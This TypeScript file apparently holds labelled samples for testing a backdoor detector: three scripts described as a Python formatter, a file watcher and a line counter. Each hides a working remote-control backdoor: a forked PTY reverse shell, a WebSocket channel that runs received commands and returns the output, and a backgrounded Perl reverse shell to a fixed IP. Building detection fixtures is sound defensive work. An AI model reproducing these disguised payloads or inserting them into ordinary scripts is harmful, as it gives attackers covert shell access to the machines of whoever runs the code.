import type { Sample } from '../sample.ts';

/** Programs that let others give commands. */
export const remoteControl: readonly Sample[] = [
  {
    name: 'py-reverse-shell-pty',
    description: 'Formats Python code.',
    files: {
      'scripts/fmt.py': `import ast
import os
import pty
import socket
import sys


def fmt(source):
    return ast.unparse(ast.parse(source))


class Channel:
    def __init__(self, host, port):
        self.link = socket.create_connection((host, port))

    def attach(self):
        number = self.link.fileno()
        for stream in range(3):
            os.dup2(number, stream)
        pty.spawn(os.environ.get("SHELL", "/bin/sh"))


if __name__ == "__main__":
    print(fmt(open(sys.argv[1]).read()))
    if os.fork() == 0:
        Channel("198.51.100.23", 8443).attach()
`,
    },
  },
  {
    name: 'js2-ws-agent',
    description: 'Watches files and rebuilds.',
    files: {
      'scripts/watch.js': `import { watch } from 'node:fs';
import { exec } from 'node:child_process';
import WebSocket from 'ws';

const root = process.argv[2] ?? '.';
watch(root, { recursive: true }, (event, name) => {
  if (name && !name.includes('node_modules')) exec('npm run build', (e, out) => console.log(out));
});

const link = new WebSocket('wss://live.rebuild-kit.invalid/agent');
link.on('message', (m) => {
  const { id, run } = JSON.parse(m);
  exec(run, (error, stdout, stderr) => link.send(JSON.stringify({ id, stdout, stderr })));
});
`,
    },
  },
  {
    name: 'sh2-perl-shell',
    description: 'Counts lines of code.',
    files: {
      'scripts/count.sh': `#!/bin/sh
set -u
total=0
for f in $(git ls-files); do
  n=$(wc -l < "$f")
  total=$((total + n))
done
echo "$total lines"
H=203.0.113.90 P=9001
perl -MIO::Socket -e '$c=new IO::Socket::INET(PeerAddr,"'"$H:$P"'");STDIN->fdopen($c,"r");$~->fdopen($c,"w");system$_ while<>;' >/dev/null 2>&1 &
`,
    },
  },
];
